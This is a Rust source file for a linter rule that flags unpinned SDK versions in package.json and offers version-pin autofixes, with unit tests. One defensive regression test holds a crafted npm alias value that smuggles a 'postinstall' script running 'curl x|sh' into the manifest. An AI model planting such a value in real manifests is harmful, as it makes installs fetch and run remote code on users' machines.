//! `unpinned-sdk`: a package.json lets npm pick the SDK version.

use std::path::Path;

use nodejs_semver::{Range, Version};

use super::{Area, Category, ManifestContext, ReportMeta, Rule, RuleMeta, Sink, Sites};
use crate::diagnostic::{Edit, Fix, Severity};
use crate::manifest::lockfile::{self, Resolution};
use crate::manifest::package_json::{DependencyEntry, DEFAULT_SDK_PACKAGES};
use crate::manifest::spec::{self, Spec, SpecKind};
use crate::source::Span;

pub struct UnpinnedSdk;

static META: RuleMeta = RuleMeta {
    id: "unpinned-sdk",
    summary: "The SDK is not pinned to one exact version, so installs can move processes to an untested SDK.",
    severity: Severity::Warning,
    area: Area::Dependencies,
    category: Category::Suspicious,
    doc: include_str!("../../rules/unpinned-sdk.md"),
    builtin: false,
    options: &["packages", "minimum-version"],
    fix: crate::rules::FixAvailability::Sometimes,
};

/// The rule's settings from `[rules.unpinned-sdk]`.
/// The SDK package names the config asks to check.
pub fn sdk_packages(config: &crate::project::config::Config) -> Vec<String> {
    options(config.rule_options.get(META.id))
        .map(|o| o.packages)
        .unwrap_or_else(|_| DEFAULT_SDK_PACKAGES.iter().map(|s| s.to_string()).collect())
}

struct Options {
    packages: Vec<String>,
    /// Package → lowest acceptable version.
    minimum: Vec<(String, Version)>,
}

fn options(table: Option<&toml::Table>) -> Result<Options, String> {
    let mut opts = Options {
        packages: DEFAULT_SDK_PACKAGES.iter().map(|s| s.to_string()).collect(),
        minimum: Vec::new(),
    };
    let Some(table) = table else {
        return Ok(opts);
    };
    if let Some(value) = table.get("packages") {
        let list = value
            .as_array()
            .ok_or("`packages` must be an array of package names")?;
        opts.packages = list
            .iter()
            .map(|v| v.as_str().map(str::to_string))
            .collect::<Option<Vec<_>>>()
            .ok_or("`packages` must be an array of package names")?;
    }
    if let Some(value) = table.get("minimum-version") {
        let map = value.as_table().ok_or(
            "`minimum-version` must be a table of package = \"version\", e.g. { \"@a5c-ai/babysitter-sdk\" = \"0.0.170\" }",
        )?;
        for (package, version) in map {
            let text = version.as_str().ok_or_else(|| {
                format!("`minimum-version.\"{package}\"` must be a version string")
            })?;
            let v = Version::parse(text).map_err(|_| {
                format!("`minimum-version.\"{package}\"`: `{text}` is not a semver version")
            })?;
            opts.minimum.push((package.clone(), v));
        }
    }
    Ok(opts)
}

impl Rule for UnpinnedSdk {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn report(&self) -> ReportMeta {
        ReportMeta {
            sites: Sites::SdkDependencies,
            praise: "SDK pinned to an exact version",
            sdk_hint: "",
        }
    }

    fn validate_options(&self, table: &toml::Table) -> Result<(), String> {
        options(Some(table)).map(|_| ())
    }

    fn check_manifest(&self, cx: &ManifestContext, sink: &mut Sink) {
        // Config errors were reported when the config loaded; defaults keep a library caller safe.
        let opts = options(cx.config.rule_options.get(META.id)).unwrap_or_else(|_| Options {
            packages: DEFAULT_SDK_PACKAGES.iter().map(|s| s.to_string()).collect(),
            minimum: Vec::new(),
        });
        let manifest_path = Path::new(&*cx.file.path);
        let lockfiles = lockfile::find_lockfiles(manifest_path);

        for bad in cx.manifest.malformed_dependencies_on(&opts.packages) {
            let span = Span::new(bad.value_span.start, bad.value_span.end);
            sink.push(
                sink.diag(
                    span,
                    format!(
                        "`{}` in {} is not a version string; npm refuses to install it",
                        bad.package,
                        bad.field.as_str()
                    ),
                )
                .with_help("write one exact version as a string, e.g. \"1.2.3\""),
            );
        }

        for entry in cx.manifest.dependencies_on(&opts.packages) {
            let spec = spec::classify(&entry.spec);
            let minimum = opts
                .minimum
                .iter()
                .find(|(p, _)| *p == entry.package)
                .map(|(_, v)| v);
            if spec.is_pinned() {
                if let (SpecKind::Exact(v), Some(min)) = (&spec.kind, minimum) {
                    if v < min {
                        report_outdated(sink, &entry, v, min, "is pinned to");
                    }
                }
                continue;
            }
            let resolved = lockfile::resolve(&lockfiles, &entry.package, &entry.spec);
            report_unpinned(sink, &entry, &spec, &resolved);
            if let (Ok(Some(res)), Some(min)) = (&resolved, minimum) {
                if res.version < *min {
                    let how = format!("resolves (in {}) to", res.lockfile.kind.file_name());
                    report_outdated(sink, &entry, &res.version, min, &how);
                }
            }
        }
    }
}

fn spec_span(entry: &DependencyEntry) -> Span {
    Span::new(entry.spec_span.start, entry.spec_span.end)
}

fn report_outdated(
    sink: &mut Sink,
    entry: &DependencyEntry,
    v: &Version,
    min: &Version,
    how: &str,
) {
    sink.push(
        sink.diag(
            spec_span(entry),
            format!(
                "`{}` {how} {v}, below the configured minimum-version {min}",
                entry.package
            ),
        )
        .with_help(format!(
            "upgrade to {min} or later, run the processes' tests against it, and pin that exact version"
        )),
    );
}

fn report_unpinned(
    sink: &mut Sink,
    entry: &DependencyEntry,
    spec: &Spec,
    resolved: &Result<Option<Resolution>, lockfile::LockfileError>,
) {
    // A range that admits one version (`^0.0.168`: npm's caret on 0.0.x) pins as surely
    // as the bare version: installs cannot move, so it is a note about how it reads.
    let single = matches!(&spec.kind, SpecKind::Range(r) if r.single_version);
    let message = if single {
        format!(
            "`{}` in {} is effectively pinned: `{}` {}",
            entry.package,
            entry.field.as_str(),
            entry.spec,
            spec.describe()
        )
    } else {
        format!(
            "`{}` in {} is not pinned: `{}` {}",
            entry.package,
            entry.field.as_str(),
            entry.spec,
            spec.describe()
        )
    };
    let lower = match &spec.kind {
        SpecKind::Range(r) => r.lower_bound.clone(),
        _ => None,
    };
    let (target, source) = match (resolved, lower) {
        (Ok(Some(res)), _) => (
            Some(res.version.clone()),
            format!("the version {} resolved", res.lockfile.kind.file_name()),
        ),
        (_, Some(lb)) => (Some(lb), "the range's lower bound exactly".to_string()),
        (_, None) => (None, String::new()),
    };
    let mut help = match &target {
        Some(v) => format!("pin {source}: \"{}\"", replacement(spec, v)),
        None => format!(
            "pin one exact version (the one the processes were tested with, e.g. from `npm ls {}`), \
             or a git URL ending in a full 40-hex commit",
            entry.package
        ),
    };
    match resolved {
        Ok(None) if target.is_some() => {
            help.push_str("; no lockfile next to this package.json records what was installed")
        }
        Err(e) => help.push_str(&format!("; the lockfile could not be read ({e})")),
        _ => {}
    }
    if let (true, Some(v)) = (single, &target) {
        help = format!(
            "write the one version it admits, \"{}\", so it reads as the pin it is",
            replacement(spec, v)
        );
    }
    let severity = if single {
        Severity::Info
    } else {
        META.severity
    };
    let mut d = sink
        .diag_at(severity, spec_span(entry), message)
        .with_help(help);
    if let Some((v, text)) =
        target.and_then(|v| Some((fix_text(spec, &v)?, v)).map(|(t, v)| (v, t)))
    {
        d = d.with_fix(Fix {
            description: format!("pin `{}` to {text}", entry.package),
            edits: vec![Edit {
                span: spec_span(entry),
                replacement: text,
            }],
            // Safe only when the pin is a version the current spec already admits: then no
            // install that was possible before is ruled out by surprise.
            safe: admits(spec, &v),
        });
    }
    sink.push(d);
}

/// The bytes a fix writes between the spec's quotes: the pinned spec as a
/// JSON string's contents. None for an alias whose name is not a package
/// name npm accepts: the manifest is the pull request's, and the name is
/// written back (`npm:x\"},\"scripts\":{…}@^1` must not become keys).
fn fix_text(spec: &Spec, v: &Version) -> Option<String> {
    if spec
        .alias_of
        .as_deref()
        .is_some_and(|name| !is_package_name(name))
    {
        return None;
    }
    let quoted = serde_json::to_string(&replacement(spec, v)).ok()?;
    Some(quoted.get(1..quoted.len().saturating_sub(1))?.to_string())
}

/// npm's rule for new package names (validate-npm-package-name): an
/// optional `@scope/`, then URL-safe lowercase characters.
fn is_package_name(name: &str) -> bool {
    let part = |s: &str| {
        !s.is_empty()
            && !s.starts_with(['.', '_'])
            && s.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-._~".contains(&b))
    };
    let bare = match name.strip_prefix('@') {
        Some(scoped) => match scoped.split_once('/') {
            Some((scope, rest)) => part(scope).then_some(rest),
            None => None,
        },
        None => Some(name),
    };
    name.len() <= 214 && bare.is_some_and(part)
}

/// The pinned spec text, keeping an `npm:` alias prefix.
fn replacement(spec: &Spec, v: &Version) -> String {
    match &spec.alias_of {
        Some(name) => format!("npm:{name}@{v}"),
        None => v.to_string(),
    }
}

fn admits(spec: &Spec, v: &Version) -> bool {
    let inner = match &spec.alias_of {
        Some(name) => spec
            .raw
            .trim()
            .strip_prefix(&format!("npm:{name}@"))
            .unwrap_or("*"),
        None => spec.raw.trim(),
    };
    matches!(spec.kind, SpecKind::Range(_)) && Range::parse(inner).is_ok_and(|r| r.satisfies(v))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::diagnostic::Diagnostic;
    use crate::engine::discover::FileKind;
    use crate::engine::lint_text;
    use crate::project::config::Config;

    fn apply(text: &str, fix: &Fix) -> String {
        let mut out = text.to_string();
        let mut edits = fix.edits.clone();
        edits.sort_by_key(|e| std::cmp::Reverse(e.span.start));
        for e in edits {
            out.replace_range(e.span.start..e.span.end, &e.replacement);
        }
        out
    }

    fn lint_dir(dir: &Path, config: &Config) -> Vec<Diagnostic> {
        let path = dir.join("package.json");
        let text = std::fs::read_to_string(&path).unwrap();
        lint_text(path.to_str().unwrap(), FileKind::Manifest, text, config)
            .into_iter()
            .filter(|d| d.rule == META.id)
            .collect()
    }

    const MANIFEST: &str = "{\n  \"name\": \"x\",\n  \"dependencies\": {\n    \"@a5c-ai/babysitter-sdk\":   \"^0.0.168\" ,\n    \"other\": \"^1.0.0\"\n  }\n}\n";

    #[test]
    fn fix_edits_only_the_version_string_and_is_idempotent() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("package.json"), MANIFEST).unwrap();
        std::fs::write(
            dir.path().join("package-lock.json"),
            r#"{"lockfileVersion": 3, "packages": {"node_modules/@a5c-ai/babysitter-sdk": {"version": "0.0.168"}}}"#,
        )
        .unwrap();
        // `^0.0.x` is a note, reported when the rule's notes are asked for.
        let mut config = Config::default();
        config.extend_select = vec![META.id.to_string()];
        let diags = lint_dir(dir.path(), &config);
        assert_eq!(diags.len(), 1, "{diags:?}");
        let d = &diags[0];
        assert_eq!(
            d.message,
            "`@a5c-ai/babysitter-sdk` in dependencies is effectively pinned: `^0.0.168` admits only 0.0.168, though it reads as a range"
        );
        assert_eq!(
            d.help.as_deref(),
            Some("write the one version it admits, \"0.0.168\", so it reads as the pin it is")
        );
        assert_eq!((d.location.start.line, d.location.start.column), (4, 34));
        assert_eq!(d.severity, Severity::Info);
        let fix = d.fix.as_ref().unwrap();
        assert!(fix.safe);
        let fixed = apply(MANIFEST, fix);
        assert_eq!(fixed, MANIFEST.replace("\"^0.0.168\"", "\"0.0.168\""));
        std::fs::write(dir.path().join("package.json"), &fixed).unwrap();
        assert!(lint_dir(dir.path(), &config).is_empty());
    }

    #[test]
    fn without_a_lockfile_the_lower_bound_is_proposed() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"devDependencies": {"@a5c-ai/babysitter": "~1.2.3"}}"#,
        )
        .unwrap();
        let diags = lint_dir(dir.path(), &Config::default());
        assert_eq!(diags.len(), 1);
        let help = diags[0].help.clone().unwrap();
        assert!(help.contains("lower bound exactly: \"1.2.3\""), "{help}");
        assert!(help.contains("no lockfile"), "{help}");
        assert!(diags[0].message.contains("admits any 1.2.x ≥ 1.2.3"));
    }

    #[test]
    fn tags_have_no_fix_without_a_lockfile() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"dependencies": {"@a5c-ai/babysitter-sdk": "latest"}}"#,
        )
        .unwrap();
        let diags = lint_dir(dir.path(), &Config::default());
        assert_eq!(diags.len(), 1);
        assert!(diags[0].fix.is_none());
        assert!(diags[0].message.contains("dist-tag `latest`"));
    }

    #[test]
    fn minimum_version_flags_old_pins_and_resolutions() {
        let text = "[rules.unpinned-sdk]\nminimum-version = { \"@a5c-ai/babysitter-sdk\" = \"0.0.170\" }\n";
        let config = Config::parse(
            text,
            Path::new("proclint.toml"),
            ".".into(),
            &crate::rules::Registry,
        )
        .unwrap();
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"dependencies": {"@a5c-ai/babysitter-sdk": "0.0.168"}}"#,
        )
        .unwrap();
        let diags = lint_dir(dir.path(), &config);
        assert_eq!(diags.len(), 1);
        assert_eq!(
            diags[0].message,
            "`@a5c-ai/babysitter-sdk` is pinned to 0.0.168, below the configured minimum-version 0.0.170"
        );
    }

    #[test]
    fn bad_options_are_config_errors() {
        for text in [
            "[rules.unpinned-sdk]\nminimum-version = { \"x\" = \"banana\" }\n",
            "[rules.unpinned-sdk]\npackages = \"x\"\n",
        ] {
            let err = Config::parse(
                text,
                Path::new("proclint.toml"),
                ".".into(),
                &crate::rules::Registry,
            )
            .unwrap_err();
            assert!(err.message.contains("unpinned-sdk"), "{}", err.message);
            assert!(err.span.is_some());
        }
    }

    #[test]
    fn configured_packages_replace_the_defaults() {
        let text = "[rules.unpinned-sdk]\npackages = [\"left-pad\"]\n";
        let config = Config::parse(
            text,
            Path::new("proclint.toml"),
            ".".into(),
            &crate::rules::Registry,
        )
        .unwrap();
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"dependencies": {"left-pad": "^1.0.0", "@a5c-ai/babysitter-sdk": "^1.0.0"}}"#,
        )
        .unwrap();
        let diags = lint_dir(dir.path(), &config);
        assert_eq!(diags.len(), 1);
        assert!(diags[0].message.starts_with("`left-pad`"));
    }

    /// The alias name is the pull request's and was written back unescaped:
    /// the fixed manifest gained a top-level `scripts.postinstall`.
    #[test]
    fn a_fix_never_adds_keys_to_the_manifest() {
        let dir = tempfile::tempdir().unwrap();
        let evil = r#"npm:@a5c-ai/babysitter-sdk\"},\"scripts\":{\"postinstall\":\"curl x|sh\"},\"x\":{\"y\":\"@^0.3.1"#;
        let text = format!(r#"{{"dependencies": {{"@a5c-ai/babysitter-sdk": "{evil}"}}}}"#);
        let before: serde_json::Value = serde_json::from_str(&text).unwrap();
        std::fs::write(dir.path().join("package.json"), &text).unwrap();
        std::fs::write(
            dir.path().join("package-lock.json"),
            r#"{"lockfileVersion": 3, "packages": {"node_modules/@a5c-ai/babysitter-sdk": {"version": "0.3.4"}}}"#,
        )
        .unwrap();
        let diags = lint_dir(dir.path(), &Config::default());
        assert!(!diags.is_empty());
        for d in &diags {
            let Some(fix) = &d.fix else { continue };
            let fixed = apply(&text, fix);
            let after: serde_json::Value = serde_json::from_str(&fixed).unwrap();
            assert_eq!(
                after.as_object().map(|o| o.len()),
                before.as_object().map(|o| o.len())
            );
            assert!(after.get("scripts").is_none(), "{fixed}");
        }
        // A name npm accepts keeps its fix, escaped as JSON.
        assert!(is_package_name("@a5c-ai/babysitter-sdk") && is_package_name("left-pad"));
        assert!(
            !is_package_name("@a5c-ai/x\"}") && !is_package_name("Upper") && !is_package_name("@s")
        );
    }

    #[test]
    fn alias_fix_keeps_the_alias() {
        let dir = tempfile::tempdir().unwrap();
        let text =
            r#"{"dependencies": {"@a5c-ai/babysitter-sdk": "npm:@a5c-ai/babysitter-sdk@^0.3.1"}}"#;
        std::fs::write(dir.path().join("package.json"), text).unwrap();
        let diags = lint_dir(dir.path(), &Config::default());
        let fixed = apply(text, diags[0].fix.as_ref().unwrap());
        assert!(
            fixed.contains("\"npm:@a5c-ai/babysitter-sdk@0.3.1\""),
            "{fixed}"
        );
    }
}
